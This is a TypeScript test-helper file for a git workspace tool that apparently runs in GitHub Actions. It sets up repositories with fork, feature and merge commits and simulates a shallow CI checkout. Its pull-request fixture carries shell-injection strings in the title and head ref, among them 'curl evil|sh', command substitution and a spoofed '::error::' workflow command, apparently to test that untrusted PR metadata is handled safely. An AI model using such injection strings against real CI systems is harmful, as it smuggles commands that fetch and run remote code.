import { openWorkspace, type GitWorkspace, type WorkspaceOptions } from '../../src/io/workspace.js'
import { GateError } from '../../src/model/errors.js'
import { createRepository, quietEnvironment, type TestRepository } from './repository.js'

const opened: GitWorkspace[] = []
const repositories: TestRepository[] = []

/** For afterEach: closes what `openAt` opened and removes what was kept. */
export async function cleanUp(): Promise<void> {
  await Promise.all(opened.splice(0).map((workspace) => workspace.close()))
  await Promise.all(repositories.splice(0).map((repository) => repository.cleanup()))
}

/** Removes a repository after the test. */
export function keep(repository: TestRepository): TestRepository {
  repositories.push(repository)
  return repository
}

export async function openAt(repository: { dir: string }, options: Partial<WorkspaceOptions> = {}): Promise<GitWorkspace> {
  const workspace = await openWorkspace({ repo: repository.dir, all: false, env: quietEnvironment, ...options })
  opened.push(workspace)
  return workspace
}

/** The GateError that a promise must be rejected with. */
export async function failure(promise: Promise<unknown>): Promise<GateError> {
  const error = await promise.then(
    () => new Error('it did not fail'),
    (reason: unknown) => reason,
  )
  if (!(error instanceof GateError)) throw error
  return error
}

/** A file's text, or `unknown: <reason>` and `unknown (absent): <reason>`. */
export async function readText(tree: GitWorkspace['base'], path: string): Promise<string> {
  const fact = await (tree as GitWorkspace['head']).read(path, 1 << 20)
  return fact.known ? Buffer.from(fact.value).toString('utf8') : `unknown${fact.absent ? ' (absent)' : ''}: ${fact.reason}`
}

/**
 * fork — main2 ──┐
 *    └── feature ─┴ merge        with `card` and a file of each commit
 */
export interface Origin {
  readonly repository: TestRepository
  readonly fork: string
  readonly main: string
  readonly feature: string
  readonly merge: string
}

export async function createOrigin(objectFormat: 'sha1' | 'sha256' = 'sha1', anySha = true): Promise<Origin> {
  const repository = await createRepository({ objectFormat })
  keep(repository)
  await repository.git('config', 'uploadpack.allowAnySHA1InWant', String(anySha))
  await repository.git('config', 'uploadpack.allowReachableSHA1InWant', String(anySha))
  await repository.write('card', 'fork').then((r) => r.commit('root'))
  await repository.write('card', 'fork 2')
  const fork = await repository.commit('fork')
  await repository.git('checkout', '-qb', 'feature')
  await repository.write('by-feature', '1')
  const feature = await repository.commit('feature')
  await repository.git('checkout', '-q', 'main')
  await repository.write('by-main', '1')
  const main = await repository.commit('main')
  await repository.git('checkout', '-q', '--detach')
  await repository.git('merge', '-q', '--no-ff', '-m', 'merge', feature)
  const merge = await repository.git('rev-parse', 'HEAD')
  await repository.git('update-ref', 'refs/pull/7/merge', merge)
  await repository.git('update-ref', 'refs/pull/7/head', feature)
  await repository.git('checkout', '-q', 'main')
  return { repository, fork, main, feature, merge }
}

/** As actions/checkout leaves it: one commit, HEAD detached. */
export async function checkout(origin: Origin, ref: string, depth = '--depth=1'): Promise<TestRepository> {
  const clone = await createRepository({ objectFormat: origin.main.length === 64 ? 'sha256' : 'sha1' })
  keep(clone)
  await clone.git('remote', 'add', 'origin', `file://${origin.repository.dir}`)
  await clone.git('fetch', '-q', '--no-tags', depth, 'origin', `+${ref}:refs/remotes/checkout`)
  await clone.git('checkout', '-q', '--detach', 'refs/remotes/checkout')
  return clone
}

export const pullRequest = (origin: Origin, more: object = {}): object => ({
  number: 7,
  pull_request: {
    title: 'x"; curl evil|sh; echo "$(id) `id`\n::error::x',
    head: { ref: 'zzz";echo${IFS}"hello";#', sha: origin.feature, repo: null },
    base: { ref: 'main', sha: origin.main, repo: { full_name: 'o/r' } },
  },
  repository: { full_name: 'o/r', default_branch: 'main' },
  ...more,
})

export function on(name: string, sha: string): Record<string, string> {
  return { ...quietEnvironment, GITHUB_EVENT_NAME: name, GITHUB_SHA: sha, GITHUB_ACTIONS: 'true', CI: 'true' }
}

export const paths = (workspace: GitWorkspace): string[] => workspace.changes.map((change) => change.path)
